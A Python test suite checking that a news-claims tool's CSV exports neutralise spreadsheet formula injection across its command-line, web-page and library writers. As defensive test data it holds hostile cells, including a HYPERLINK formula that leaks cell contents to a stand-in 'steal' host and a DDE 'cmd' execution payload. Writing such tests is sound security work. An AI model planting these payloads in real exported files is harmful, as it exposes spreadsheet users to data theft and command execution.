"""Formula injection: every CSV the program writes shows hostile text as text.

A spreadsheet runs a cell that starts with =, +, -, @, tab or carriage return as a formula;
lib/export.py gives such a text cell a leading apostrophe. Each export format is written
here from a store (or a corpus) holding hostile values in every text field an analyst or an
article can fill (title, outlet, url, evidence, claimant, go-between, subject, review note
and reason, reviewer), read back with csv and with pandas, and checked three ways: no cell
starts with a formula character, every planted value comes back (drop the apostrophe:
lib.export.recovered), and the figures are still numbers. The formats: the CLI's `extract`,
`export`, `claims`, `claims --consolidated` and `audit`; the download buttons of the
Export, Consolidated and Audit trail pages; csv_bytes and table_csv_bytes themselves.

JSON is not neutralised, by decision (lib/export.py): no spreadsheet opens it, and a program
gets the values exactly; the Export page's JSON download is checked for exact values.
"""
from __future__ import annotations

import csv
import datetime as dt
import io
import json
import subprocess
import sys

import pandas as pd
import pytest
from streamlit.runtime.media_file_manager import MediaFileManager
from streamlit.testing.v1 import AppTest

from lib import export as E
from lib import filters as F
from lib import schema as S
from lib.articles import Article
from lib.store import Store
from tests.dashboard_helpers import frame, mention, seed_mentions
from tests.store_helpers import BRIDGE, REPO, VALLEY, db_url, run_cli  # noqa: F401

LINK = '=HYPERLINK("http://x.example/steal?d="&A1,"Details")'
# (id, a hostile cell) -- every formula start, and an apostrophe already before one
VALUES = [
    ("equals_hyperlink", LINK), ("plus", "+1+1"), ("minus", "-2+3"), ("at", "@SUM(A1:A9)"),
    ("tab", "\tcmd"), ("carriage_return", "\rcmd"), ("apostrophe_then_equals", "'=1+1"),
]
HOSTILE = [value for _, value in VALUES]

# An article whose sentences start with formula characters; with no claimant named, a
# claim's claimant is the outlet.
TEXT = ("=14 dock workers were killed when a crane collapsed in the harbour.\n"
        "+31 miners were missing after the tunnel flooded overnight, rescuers said.\n"
        "-Nine hikers were injured by a rockslide in the northern valley, the mountain rescue service said.\n"
        "@About 200 villagers were hurt when the footbridge gave way, the governor said.\n"
        "At least 12 sailors were killed when the ferry sank overnight.\n")
EVIDENCE = TEXT.splitlines()[:4]
REVIEWER = "=HYPERLINK(\"http://x.example\")"
FIGURES = (S.VALUE_LOW, S.VALUE_HIGH, S.VALUE_BEST)


@pytest.fixture
def hostile_db(db_url):
    """A store of two articles with hostile metadata, and reviews with hostile values. The
    store is written directly (ingestion would clean a tab or carriage return away)."""
    store = Store.open(db_url)
    first = store.add_article(Article("x", TEXT, outlet=LINK, url="@SUM(A1:A9)", title="+1+1",
                                      published=dt.date(2024, 5, 1)))
    store.add_article(Article("y", f"{VALLEY}\n{BRIDGE}", outlet="\rcmd", url="-2+3", title="\tcmd",
                              published=dt.date(2024, 5, 2)))
    keys = list(store.claims_frame()[S.CLAIM_KEY])
    mine = [key for key in keys if key.startswith(first.article_id)]
    store.edit(mine[0], REVIEWER, {S.CLAIMANT: "@SUM(A1:A9)", S.CLAIMANT_VIA: "-2+3", S.SUBJECT: "+1+1"})
    store.note(mine[1], REVIEWER, "=1+1")
    store.reject(mine[2], REVIEWER, "'=1+1")
    store.close()
    return db_url


# what the store's hostile values become in each table: (column, value) pairs to find
MENTIONS = [(S.OUTLET, LINK), (S.OUTLET, "\rcmd"), (S.TITLE, "+1+1"), (S.TITLE, "\tcmd"),
            (S.URL, "@SUM(A1:A9)"), (S.URL, "-2+3"), (S.CLAIMANT, "@SUM(A1:A9)"), (S.CLAIMANT, LINK),
            (S.CLAIMANT_VIA, "-2+3"), (S.SUBJECT, "+1+1"), (S.NOTE, "=1+1"),
            *((S.EVIDENCE, sentence) for sentence in EVIDENCE)]
REJECTED = [(S.REASON, "'=1+1")]
CONSOLIDATED = [(S.CLAIMANT, "@SUM(A1:A9)"), (S.CLAIMANT, LINK), (S.CLAIMANT_VIA, "-2+3"), (S.SUBJECT, "+1+1"),
                (S.OUTLETS, LINK), (S.OUTLETS, "\rcmd"), *((S.EVIDENCE, sentence) for sentence in EVIDENCE[:2])]
AUDIT = [("reviewer", REVIEWER), ("new", "@SUM(A1:A9)"), ("new", "-2+3"), ("new", "+1+1"), ("new", "=1+1"),
         ("new", "'=1+1")]


def rows_of(data: bytes, bom: bool = True) -> list[dict]:
    assert data.startswith(b"\xef\xbb\xbf") == bom
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def assert_safe(data: bytes, expected: list[tuple[str, str]], figures=FIGURES, bom: bool = True) -> None:
    """No cell runs as a formula; each expected (column, value) comes back; figures are numbers;
    pandas reads the same."""
    rows = rows_of(data, bom)
    assert rows
    started = [(column, cell) for row in rows for column, cell in row.items() if cell.startswith(E.FORMULA_STARTS)]
    assert started == []
    found = {(column, E.recovered(cell)) for row in rows for column, cell in row.items()}
    assert [pair for pair in expected if pair not in found] == []
    for column in figures:
        assert all(row[column] == "" or row[column].isdigit() for row in rows), column
    numbers = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", usecols=list(figures))
    assert all(pd.api.types.is_numeric_dtype(numbers[column]) for column in figures)
    cells = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert len(cells) == len(rows)
    assert not cells.apply(lambda column: column.str.startswith(E.FORMULA_STARTS)).any().any()


# --- the command line --------------------------------------------------------------------------

# (id, the command's arguments after `python -m lib`, expected cells, figure columns)
COMMANDS = [
    ("export", ["export"], MENTIONS + REJECTED, FIGURES),
    ("claims", ["claims"], MENTIONS + REJECTED, FIGURES),
    ("claims_consolidated", ["claims", "--consolidated"], CONSOLIDATED,
     (*FIGURES, S.MENTIONS, S.CITATIONS, S.CORROBORATION)),
    ("audit", ["audit"], AUDIT, ()),
]


@pytest.mark.parametrize("args, expected, figures", [c[1:] for c in COMMANDS], ids=[c[0] for c in COMMANDS])
def test_the_command_lines_csv_files_are_neutralised(hostile_db, tmp_path, args, expected, figures):
    out = tmp_path / "out.csv"
    done = run_cli(*args, "--out", out, "--db", hostile_db)
    assert done.returncode == 0, done.stderr
    assert_safe(out.read_bytes(), expected, figures)


def cli_bytes(*args) -> bytes:
    """What `python -m lib ARGS` writes to standard output, byte for byte (a carriage return
    inside a quoted cell included)."""
    done = subprocess.run([sys.executable, "-m", "lib", *map(str, args)], cwd=REPO, capture_output=True,
                          timeout=300)
    assert done.returncode == 0, done.stderr
    return done.stdout


def test_the_command_lines_csv_to_standard_output_is_neutralised_too(hostile_db):
    assert_safe(cli_bytes("export", "--out", "-", "--db", hostile_db), MENTIONS + REJECTED)


@pytest.fixture
def hostile_corpus(tmp_path):
    records = [{"id": "=cmd|' /C calc'!A0", "outlet": LINK, "text": TEXT},
               {"id": "'=quoted", "outlet": "@SUM(A1:A9)", "text": BRIDGE}]
    path = tmp_path / "articles.jsonl"
    path.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    return path


@pytest.mark.parametrize("out", ["file", "-"])
def test_the_extraction_csv_is_neutralised(hostile_corpus, tmp_path, out):
    target = tmp_path / "claims.csv"
    if out == "file":
        done = run_cli("extract", hostile_corpus, "--out", target)
        assert done.returncode == 0, done.stderr
    data = target.read_bytes() if out == "file" else cli_bytes("extract", hostile_corpus, "--out", "-")
    # no byte-order mark: the extraction CSV stays what ../shared/eval/score.py has always read
    assert_safe(data, [(S.ARTICLE_ID, "=cmd|' /C calc'!A0"), (S.ARTICLE_ID, "'=quoted"), (S.CLAIMANT, LINK),
                       *((S.EVIDENCE, sentence) for sentence in EVIDENCE)], bom=False)


def test_ordinary_claims_are_written_to_the_extraction_csv_unchanged():
    """Neutralising touches no cell of real claims, so scoring reads the same CSV as before."""
    mentions = seed_mentions()
    assert E.contract_csv(mentions) == S.contract_table(mentions).to_csv(index=False)


# --- the pages' download buttons ---------------------------------------------------------------

@pytest.fixture
def downloads(monkeypatch):
    """The data callables of the download buttons rendered, by file name."""
    found = {}
    original = MediaFileManager.add_deferred

    def add_deferred(self, data_callable, mimetype, coordinates, file_name=None, **kwargs):
        found[file_name] = data_callable
        return original(self, data_callable, mimetype, coordinates, file_name=file_name, **kwargs)

    monkeypatch.setattr(MediaFileManager, "add_deferred", add_deferred)
    return found


@pytest.fixture
def app(hostile_db, monkeypatch):
    monkeypatch.setenv("DATABASE_URL", hostile_db)
    app = AppTest.from_file(str(REPO / "app.py"), default_timeout=120)
    app.query_params = {F.REJECTED_KEY: "true"}   # rejected claims too, with their reason
    return app


# (id, page, the download's file name, expected cells, figure columns)
PAGES = [
    ("export_page_csv", "pages/export.py", "claims_with-rejected.csv", MENTIONS + REJECTED, FIGURES),
    ("consolidated_page_csv", "pages/consolidated.py", "claims_consolidated.csv", CONSOLIDATED,
     (*FIGURES, S.MENTIONS, S.CITATIONS, S.CORROBORATION)),
    ("audit_page_csv", "pages/audit.py", "audit_trail.csv", AUDIT, ()),
]


@pytest.mark.parametrize("page, name, expected, figures", [c[1:] for c in PAGES], ids=[c[0] for c in PAGES])
def test_the_pages_csv_downloads_are_neutralised(app, downloads, page, name, expected, figures):
    app.run()
    app.switch_page(page).run()
    assert not app.exception
    assert_safe(downloads[name](), expected, figures)


def test_the_export_pages_json_keeps_the_values_exactly(app, downloads):
    app.run()
    app.switch_page("pages/export.py").run()
    records = json.loads(downloads["claims_with-rejected.json"]())
    found = {(column, value) for record in records for column, value in record.items()}
    assert [pair for pair in MENTIONS + REJECTED if pair not in found] == []
    assert {type(record[S.VALUE_BEST]) for record in records} == {int, type(None)}


# --- the writers themselves: every hostile value in every text column -------------------------

@pytest.mark.parametrize("value", HOSTILE, ids=[v for v, _ in VALUES])
def test_csv_bytes_neutralises_every_text_column(value):
    row = mention(subject=value, claimant=value, via=value, evidence=value, figure_text=value,
                  outlet=value, url=value, title=value)
    data = E.csv_bytes(frame(row).assign(**{S.STATUS: "rejected", S.REASON: value, S.NOTE: value,
                                            S.CLAIM_KEY: value}))
    (written,) = rows_of(data)
    text_columns = [S.SUBJECT, S.CLAIMANT, S.CLAIMANT_VIA, S.EVIDENCE, S.FIGURE_TEXT, S.OUTLET, S.URL,
                    S.TITLE, S.REASON, S.NOTE, S.CLAIM_KEY]
    assert {column: written[column] for column in text_columns} == {column: "'" + value for column in text_columns}
    assert {column: E.recovered(written[column]) for column in text_columns} == dict.fromkeys(text_columns, value)
    assert (written[S.VALUE_BEST], written[S.RESTATED]) == ("100", "false")


@pytest.mark.parametrize("value", HOSTILE, ids=[v for v, _ in VALUES])
def test_table_csv_bytes_neutralises_text_and_leaves_numbers_alone(value):
    table = pd.DataFrame({"text": pd.array([value, "plain"], dtype="string"), "objects": [value, None],
                          "category": pd.Categorical([value, value]), "flag": [True, False],
                          "change": [-5, 3], "share": [-0.5, 1.25],
                          "at": pd.to_datetime(["2024-05-01 10:00:00", "2024-05-02 11:30:00"])})
    rows = rows_of(E.table_csv_bytes(table))
    assert [(row["text"], row["objects"], row["category"]) for row in rows] == [
        ("'" + value, "'" + value, "'" + value), ("plain", "", "'" + value)]
    assert [(row["change"], row["share"], row["flag"]) for row in rows] == [
        ("-5", "-0.5", "True"), ("3", "1.25", "False")]   # negative numbers stay numbers
    assert rows[0]["at"] == "2024-05-01 10:00:00"


# (id, cell, as written) -- recovered() undoes neutralise() on every one of them
ROUND_TRIPS = [
    ("formula", "=1+1", "'=1+1"),
    ("apostrophe_before_a_formula", "'=1+1", "''=1+1"),
    ("two_apostrophes_before_a_formula", "''-3", "'''-3"),
    ("apostrophe_before_text_untouched", "'tis the season", "'tis the season"),
    ("minus_inside_untouched", "3-4 killed", "3-4 killed"),
    ("empty_untouched", "", ""),
    ("space_before_a_formula_untouched", " =1+1", " =1+1"),
]


@pytest.mark.parametrize("cell, written", [c[1:] for c in ROUND_TRIPS], ids=[c[0] for c in ROUND_TRIPS])
def test_neutralising_is_undone_exactly(cell, written):
    assert E.neutralise(cell) == written
    assert E.recovered(written) == cell
    assert list(E.neutralised(pd.Series([cell], dtype="string"))) == [written]
